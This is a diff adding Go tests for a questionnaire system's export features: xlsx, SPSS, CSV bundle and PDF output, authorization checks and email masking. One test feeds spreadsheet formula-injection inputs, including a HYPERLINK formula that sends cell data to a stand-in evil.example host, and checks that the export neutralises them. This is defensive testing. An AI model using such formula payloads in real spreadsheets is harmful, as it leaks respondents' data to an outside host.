@@ -0,0 +1,434 @@
+package server
+
+import (
+	"archive/zip"
+	"bytes"
+	"compress/zlib"
+	"encoding/csv"
+	"encoding/hex"
+	"encoding/json"
+	"encoding/xml"
+	"fmt"
+	"io"
+	"net/http"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"questionnaire-system/backend/models"
+	"questionnaire-system/backend/service"
+)
+
+// exportPath 问卷导出接口的地址
+func exportPath(q *questionnaireFixture, format string) string {
+	return fmt.Sprintf("/api/v1/questionnaires/%d/exports/%s", q.ID, format)
+}
+
+// expectAttachment 断言导出的附件类型和文件名，返回文件内容
+func (r *response) expectAttachment(contentType, ext string) []byte {
+	r.t.Helper()
+	r.expect(http.StatusOK)
+	if got := r.Header.Get("Content-Type"); got != contentType {
+		r.t.Fatalf("Content-Type为%q，期望%q", got, contentType)
+	}
+	disposition := regexp.MustCompile(`^attachment; filename="questionnaire_\d+_\d{14}\.` + ext + `"$`)
+	if got := r.Header.Get("Content-Disposition"); !disposition.MatchString(got) {
+		r.t.Fatalf("Content-Disposition不正确: %q", got)
+	}
+	return r.Body
+}
+
+// openZip 打开zip格式的附件（xlsx、CSV数据包），返回文件名 → 内容
+func openZip(t testing.TB, data []byte) map[string][]byte {
+	t.Helper()
+	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
+	if err != nil {
+		t.Fatalf("附件不是有效的zip文件: %v", err)
+	}
+	files := make(map[string][]byte)
+	for _, f := range zr.File {
+		rc, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		content, err := io.ReadAll(rc)
+		rc.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		files[f.Name] = content
+	}
+	return files
+}
+
+// xlsxCell 工作表中的一个单元格，数值单元格的Number为true
+type xlsxCell struct {
+	Text   string
+	Number bool
+}
+
+// xlsxSheet 按顺序排列的工作表
+type xlsxSheet struct {
+	Name string
+	Rows [][]xlsxCell
+}
+
+// readXLSX 解析导出的工作簿，返回每个工作表的名称和单元格内容（只处理导出使用的内联字符串和数值）
+func readXLSX(t testing.TB, data []byte) []xlsxSheet {
+	t.Helper()
+	files := openZip(t, data)
+
+	var workbook struct {
+		Sheets []struct {
+			Name string `xml:"name,attr"`
+		} `xml:"sheets>sheet"`
+	}
+	if err := xml.Unmarshal(files["xl/workbook.xml"], &workbook); err != nil {
+		t.Fatalf("解析workbook.xml失败: %v", err)
+	}
+
+	var sheets []xlsxSheet
+	for i, s := range workbook.Sheets {
+		var worksheet struct {
+			Rows []struct {
+				Cells []struct {
+					Ref    string `xml:"r,attr"`
+					Type   string `xml:"t,attr"`
+					Value  string `xml:"v"`
+					Inline string `xml:"is>t"`
+				} `xml:"c"`
+			} `xml:"sheetData>row"`
+		}
+		name := fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1)
+		if err := xml.Unmarshal(files[name], &worksheet); err != nil {
+			t.Fatalf("解析%s失败: %v", name, err)
+		}
+		sheet := xlsxSheet{Name: s.Name}
+		for _, row := range worksheet.Rows {
+			// 空单元格不写出，按单元格引用中的列号放回原位
+			var cells []xlsxCell
+			for _, c := range row.Cells {
+				col := 0
+				for _, ch := range c.Ref {
+					if ch >= 'A' && ch <= 'Z' {
+						col = col*26 + int(ch-'A'+1)
+					}
+				}
+				for len(cells) < col {
+					cells = append(cells, xlsxCell{})
+				}
+				if c.Type == "inlineStr" {
+					cells[col-1] = xlsxCell{Text: c.Inline}
+				} else {
+					cells[col-1] = xlsxCell{Text: c.Value, Number: true}
+				}
+			}
+			sheet.Rows = append(sheet.Rows, cells)
+		}
+		sheets = append(sheets, sheet)
+	}
+	return sheets
+}
+
+// texts 单元格的文本
+func texts(cells []xlsxCell) []string {
+	var out []string
+	for _, c := range cells {
+		out = append(out, c.Text)
+	}
+	return out
+}
+
+// exportFixture 一份带有两份答卷的问卷，其中一份的填空题包含XML特殊字符
+func exportFixture(env *testEnv) (owner, respondent *models.User, q *questionnaireFixture) {
+	env.t.Helper()
+	owner = env.createUser(userOpts{Username: "owner"})
+	respondent = env.createUser(userOpts{Username: "respondent"})
+	q = env.createQuestionnaire(owner, true)
+	env.submit(q, respondent)
+
+	_, err := env.services.Submissions.Submit(env.ctx(), service.SubmitInput{
+		QuestionnaireID: q.ID,
+		UserID:          owner.ID,
+		IPAddress:       "192.0.2.2",
+		Answers: []models.Answer{
+			{QuestionID: q.Questions[0].ID, Content: "男"},
+			{QuestionID: q.Questions[2].ID, Content: `<a & "b">, 换行` + "\n" + `结束`},
+		},
+	})
+	if err != nil {
+		env.t.Fatalf("提交问卷失败: %v", err)
+	}
+	return owner, respondent, q
+}
+
+func TestExportAuthorization(t *testing.T) {
+	forEachBackend(t, func(t *testing.T, env *testEnv) {
+		owner, respondent, q := exportFixture(env)
+		admin := env.createAdmin()
+
+		for _, format := range []string{"xlsx", "sav", "csv-bundle", "pdf"} {
+			t.Run(format, func(t *testing.T) {
+				path := exportPath(q, format)
+				env.get(path).expectCode(http.StatusUnauthorized, "UNAUTHORIZED")
+				env.get(path, bearer("token_owner_20240101000000")).expectError(http.StatusUnauthorized, "无效的令牌")
+
+				// 只有创建者和管理员可以导出，在参数中冒充创建者无效
+				env.get(path, env.asUser(respondent.Username)).expectCode(http.StatusForbidden, "FORBIDDEN")
+				env.get(fmt.Sprintf("%s?user_id=%d", path, owner.ID), env.asUser(respondent.Username)).
+					expectCode(http.StatusForbidden, "FORBIDDEN")
+				env.get(path, env.asUser(admin.Username)).expect(http.StatusOK)
+				env.get(fmt.Sprintf("/api/v1/questionnaires/999/exports/%s", format), env.asUser(owner.Username)).
+					expectCode(http.StatusNotFound, "QUESTIONNAIRE_NOT_FOUND")
+			})
+		}
+
+		// 旧接口同样按登录用户判断
+		env.get(fmt.Sprintf("/api/questionnaire/export/xlsx?id=%d&user_id=%d", q.ID, owner.ID), env.asUser(respondent.Username)).
+			expectCode(http.StatusForbidden, "FORBIDDEN")
+		env.get(fmt.Sprintf("/api/questionnaire/export/xlsx?id=%d", q.ID), env.asUser(owner.Username)).expect(http.StatusOK)
+	})
+}
+
+func TestExportXLSX(t *testing.T) {
+	forEachBackend(t, func(t *testing.T, env *testEnv) {
+		owner, _, q := exportFixture(env)
+
+		data := env.get(exportPath(q, "xlsx"), env.asUser(owner.Username)).
+			expectAttachment("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx")
+		sheets := readXLSX(t, data)
+		if len(sheets) != 3 || sheets[0].Name != "答卷数据" || sheets[1].Name != "汇总统计" || sheets[2].Name != "编码手册" {
+			t.Fatalf("工作表不正确: %+v", sheets)
+		}
+
+		// 答卷数据：表头加每份答卷一行，评分题为数值，多选题展开为选项列表，填空题保留原文
+		responses := sheets[0].Rows
+		want := []string{"提交ID", "提交时间", "用户名", "IP地址", "Q1 您的性别", "Q2 您喜欢的水果", "Q3 您的建议", "Q4 满意度"}
+		if got := texts(responses[0]); fmt.Sprint(got) != fmt.Sprint(want) {
+			t.Fatalf("表头为%q，期望%q", got, want)
+		}
+		if len(responses) != 3 {
+			t.Fatalf("应有2份答卷: %d行", len(responses)-1)
+		}
+		first := responses[1]
+		if got := texts(first[2:]); fmt.Sprint(got) != fmt.Sprint([]string{"respondent", "192.0.2.1", "女", "苹果; 橙子", "很好", "5"}) {
+			t.Fatalf("答卷内容不正确: %q", got)
+		}
+		if !first[0].Number || !first[1].Number || !first[7].Number || first[6].Number {
+			t.Fatalf("提交ID、提交时间和评分应为数值，填空题应为文本: %+v", first)
+		}
+		second := responses[2]
+		if second[2].Text != "owner" || second[6].Text != `<a & "b">, 换行`+"\n"+`结束` || len(second) != 7 {
+			t.Fatalf("特殊字符或未作答的问题不正确: %+v", second)
+		}
+
+		// 汇总统计：标题行包含答卷总数
+		if summary := sheets[1].Rows[0]; summary[0].Text != q.Title || summary[2].Text != "2" {
+			t.Fatalf("汇总统计不正确: %+v", summary)
+		}
+
+		// 编码手册：每个问题一行
+		codebook := sheets[2].Rows
+		if len(codebook) != 5 || fmt.Sprint(texts(codebook[1])) != fmt.Sprint([]string{"Q1", "您的性别", "单选题", "是", "1=男; 2=女"}) {
+			t.Fatalf("编码手册不正确: %+v", codebook)
+		}
+	})
+}
+
+func TestExportCSVBundle(t *testing.T) {
+	forEachBackend(t, func(t *testing.T, env *testEnv) {
+		owner, _, q := exportFixture(env)
+
+		files := openZip(t, env.get(exportPath(q, "csv-bundle"), env.asUser(owner.Username)).expectAttachment("application/zip", "zip"))
+		if len(files) != 2 || files["responses.csv"] == nil || files["codebook.json"] == nil {
+			t.Fatalf("数据包应只包含responses.csv和codebook.json: %d个文件", len(files))
+		}
+
+		// UTF-8且不带BOM，与编码手册中声明的编码一致，R和pandas按默认参数即可读取
+		data := files["responses.csv"]
+		if bytes.HasPrefix(data, []byte("\xEF\xBB\xBF")) {
+			t.Fatal("CSV不应以BOM开头")
+		}
+		// 包含引号、逗号和换行的字段加引号，引号转义为两个引号
+		if !bytes.Contains(data, []byte(`"<a & ""b"">, 换行`+"\n"+`结束"`)) {
+			t.Fatalf("填空题没有按CSV规则转义: %s", data)
+		}
+		records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+		if err != nil {
+			t.Fatalf("解析CSV失败: %v", err)
+		}
+		header := []string{"SUBID", "SUBTIME", "USERNAME", "IPADDR", "Q1", "Q2_1", "Q2_2", "Q2_3", "Q3", "Q4"}
+		if fmt.Sprint(records[0]) != fmt.Sprint(header) || len(records) != 3 {
+			t.Fatalf("CSV的表头或行数不正确: %q", records)
+		}
+		// 选项按编码输出，多选题每个选项一列；未作答为空单元格
+		if got := records[1][4:]; fmt.Sprint(got) != fmt.Sprint([]string{"2", "1", "0", "1", "很好", "5"}) {
+			t.Fatalf("答卷编码不正确: %q", got)
+		}
+		if got := records[2][4:]; fmt.Sprint(got) != fmt.Sprint([]string{"1", "", "", "", `<a & "b">, 换行` + "\n" + `结束`, ""}) {
+			t.Fatalf("缺失值或特殊字符不正确: %q", got)
+		}
+
+		var codebook struct {
+			DataFile  string `json:"data_file"`
+			Encoding  string `json:"encoding"`
+			Variables []struct {
+				Name        string `json:"name"`
+				Label       string `json:"label"`
+				ValueLabels []struct {
+					Value float64 `json:"value"`
+					Label string  `json:"label"`
+				} `json:"value_labels"`
+				Missing []float64 `json:"missing_values"`
+			} `json:"variables"`
+		}
+		if err := json.Unmarshal(files["codebook.json"], &codebook); err != nil {
+			t.Fatalf("解析编码手册失败: %v", err)
+		}
+		if codebook.DataFile != "responses.csv" || codebook.Encoding != "UTF-8" || len(codebook.Variables) != len(header) {
+			t.Fatalf("编码手册不正确: %s", files["codebook.json"])
+		}
+		// CSV中缺失值为空，编码手册不再列出-99
+		gender := codebook.Variables[4]
+		if gender.Name != "Q1" || gender.Label != "您的性别" || len(gender.ValueLabels) != 2 || gender.ValueLabels[1].Label != "女" ||
+			gender.Missing != nil {
+			t.Fatalf("Q1的值标签不正确: %+v", gender)
+		}
+	})
+}
+
+func TestExportCSVBundleEscapesFormulas(t *testing.T) {
+	forEachBackend(t, func(t *testing.T, env *testEnv) {
+		owner := env.createUser(userOpts{Username: "owner"})
+		q := env.createQuestionnaire(owner, true)
+
+		answers := []string{`=HYPERLINK("https://evil.example/?d="&A1,"点击")`, "+1", "-1", "@SUM(A1)", "1+1="}
+		for _, content := range answers {
+			respondent := env.createUser(userOpts{})
+			_, err := env.services.Submissions.Submit(env.ctx(), service.SubmitInput{
+				QuestionnaireID: q.ID,
+				UserID:          respondent.ID,
+				Answers: []models.Answer{
+					{QuestionID: q.Questions[0].ID, Content: "男"},
+					{QuestionID: q.Questions[2].ID, Content: content},
+				},
+			})
+			if err != nil {
+				t.Fatalf("提交问卷失败: %v", err)
+			}
+		}
+
+		files := openZip(t, env.get(exportPath(q, "csv-bundle"), env.asUser(owner.Username)).expectAttachment("application/zip", "zip"))
+		records, err := csv.NewReader(bytes.NewReader(files["responses.csv"])).ReadAll()
+		if err != nil {
+			t.Fatalf("解析CSV失败: %v", err)
+		}
+
+		// 以 = + - @ 开头的填空题回答加单引号，其他文本和数值编码不变
+		var got []string
+		for _, record := range records[1:] {
+			got = append(got, record[8])
+			if record[4] != "1" {
+				t.Fatalf("选项编码不应转义: %q", record)
+			}
+		}
+		want := []string{`'=HYPERLINK("https://evil.example/?d="&A1,"点击")`, "'+1", "'-1", "'@SUM(A1)", "1+1="}
+		if fmt.Sprint(got) != fmt.Sprint(want) {
+			t.Fatalf("公式没有被转义: %q", got)
+		}
+	})
+}
+
+func TestExportSAV(t *testing.T) {
+	forEachBackend(t, func(t *testing.T, env *testEnv) {
+		owner, _, q := exportFixture(env)
+
+		data := env.get(exportPath(q, "sav"), env.asUser(owner.Username)).expectAttachment("application/x-spss-sav", "sav")
+		if !bytes.HasPrefix(data, []byte("$FL2")) {
+			t.Fatalf("不是SPSS数据文件: %q", data[:min(len(data), 16)])
+		}
+		// 变量标签和值标签以UTF-8写入
+		for _, label := range []string{"您的性别", "您喜欢的水果: 香蕉", "未作答"} {
+			if !bytes.Contains(data, []byte(label)) {
+				t.Fatalf("数据文件中缺少标签%q", label)
+			}
+		}
+	})
+}
+
+var (
+	pdfStreamPattern = regexp.MustCompile(`<< /Length (\d+) /Filter /FlateDecode >>\nstream\n`)
+	pdfTextPattern   = regexp.MustCompile(`<([0-9A-F]*)> Tj`)
+)
+
+// pdfText 解压PDF中每页的内容流，按顺序返回全部文字
+func pdfText(t testing.TB, data []byte) []string {
+	t.Helper()
+	var lines []string
+	for _, m := range pdfStreamPattern.FindAllSubmatchIndex(data, -1) {
+		length, _ := strconv.Atoi(string(data[m[2]:m[3]]))
+		zr, err := zlib.NewReader(bytes.NewReader(data[m[1] : m[1]+length]))
+		if err != nil {
+			t.Fatalf("解压内容流失败: %v", err)
+		}
+		content, err := io.ReadAll(zr)
+		if err != nil {
+			t.Fatalf("解压内容流失败: %v", err)
+		}
+		for _, text := range pdfTextPattern.FindAllSubmatch(content, -1) {
+			raw, err := hex.DecodeString(string(text[1]))
+			if err != nil {
+				t.Fatal(err)
+			}
+			units := make([]uint16, len(raw)/2)
+			for i := range units {
+				units[i] = uint16(raw[2*i])<<8 | uint16(raw[2*i+1])
+			}
+			lines = append(lines, string(utf16.Decode(units)))
+		}
+	}
+	return lines
+}
+
+func TestExportPDF(t *testing.T) {
+	forEachBackend(t, func(t *testing.T, env *testEnv) {
+		owner, respondent, q := exportFixture(env)
+		_, err := env.services.Submissions.Submit(env.ctx(), service.SubmitInput{
+			QuestionnaireID: q.ID,
+			UserID:          env.createUser(userOpts{}).ID,
+			Answers:         []models.Answer{{QuestionID: q.Questions[2].ID, Content: "请联系 carol@example.com"}},
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		env.get(exportPath(q, "pdf"), env.asUser(respondent.Username)).expectCode(http.StatusForbidden, "FORBIDDEN")
+
+		report := func(query string) string {
+			t.Helper()
+			data := env.get(exportPath(q, "pdf")+query, env.asUser(owner.Username)).expectAttachment("application/pdf", "pdf")
+			if !bytes.HasPrefix(data, []byte("%PDF-")) || !bytes.HasSuffix(data, []byte("%%EOF\n")) {
+				t.Fatalf("不是完整的PDF文件: %q", data[:min(len(data), 16)])
+			}
+			return strings.Join(pdfText(t, data), "\n")
+		}
+
+		// 默认不显示创建者，填空题中的邮箱被遮盖
+		anonymous := report("")
+		for _, want := range []string{q.Title, "答卷总数：3", "您的性别", "请联系 ***"} {
+			if !strings.Contains(anonymous, want) {
+				t.Fatalf("报告中缺少%q:\n%s", want, anonymous)
+			}
+		}
+		if strings.Contains(anonymous, "创建者") || strings.Contains(anonymous, "carol@example.com") {
+			t.Fatalf("匿名报告不应包含身份信息:\n%s", anonymous)
+		}
+
+		identifying := report("?include_identifying=true")
+		if !strings.Contains(identifying, "创建者："+owner.Username) || !strings.Contains(identifying, "carol@example.com") {
+			t.Fatalf("包含身份信息的报告应显示创建者和原文:\n%s", identifying)
+		}
+	})
+}